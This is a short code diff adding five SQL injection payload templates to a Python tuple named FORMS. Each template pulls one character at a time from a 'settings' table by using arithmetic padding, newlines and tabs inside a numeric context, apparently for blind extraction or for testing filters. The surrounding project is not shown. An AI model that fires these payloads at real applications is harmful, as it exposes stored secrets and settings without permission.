@@ -98,6 +98,12 @@ FORMS = (
     "(sElEcT(unicode(substr(value,{n},1)))fRoM(settings))",
     "0' + (SELECT unicode(substr(value, {n}, 1)) FROM settings) + '0",
     '0" + (SELECT unicode(substr(value, {n}, 1)) FROM settings) + "0',
+    # A number first, last, or alone on a line.
+    "1 - 1 + (SELECT unicode(substr(value, {n}, 1)) FROM settings)",
+    "(SELECT unicode(substr(value, {n}, 1)) FROM settings) + 0",
+    "10 + (SELECT unicode(substr(value, {n}, 1)) FROM settings) - 10",
+    "10\n+ (SELECT unicode(substr(value, {n}, 1)) FROM settings) -\n10",
+    "10\t+(SELECT\tunicode(substr(value,{n},1))\tFROM\tsettings)-10",
 )
 
 
